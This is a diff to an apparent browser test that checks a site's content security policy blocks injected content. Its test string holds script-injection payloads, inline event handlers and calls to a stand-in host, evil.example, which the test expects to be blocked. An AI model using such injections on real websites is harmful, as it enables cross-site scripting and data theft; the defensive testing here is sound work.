@@ -11,7 +11,7 @@ from conftest import ROOT, build
 from publishing import served, watched
 from refdesk.publish.policy import policy
 
-_ATTACKS = """async () => {
+_ATTACKS = """async (most) => {
   const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
   add("script", { textContent: "window.hacked = 1" });
   add("script", { src: "https://evil.example/x.js" });
@@ -22,6 +22,8 @@ _ATTACKS = """async () => {
   document.body.insertAdjacentHTML("beforeend", '<p style="color:red">x</p><b onclick="1">x</b>');
   setTimeout("window.hacked = 2", 0);
   await fetch("https://evil.example/").catch(() => 0);
+  for (let tries = 0; tries < 100 && new Set(window.blocked).size < most; tries += 1)
+    await new Promise((done) => setTimeout(done, 50));
   await new Promise((done) => setTimeout(done, 300));
   return [window.hacked ?? null, [...new Set(window.blocked)].sort()];
 }"""
@@ -62,7 +64,7 @@ def test_what_does_not_belong_to_the_site_is_blocked(
     page, _ = watched(context)
     for address in (served_site + "hubs/shandong/", (disk_site / "hubs" / "shandong.html").as_uri()):
         page.goto(address)
-        hacked, blocked = page.evaluate(_ATTACKS)
+        hacked, blocked = page.evaluate(_ATTACKS, len(BLOCKED))
         assert hacked is None
         assert blocked == BLOCKED
 
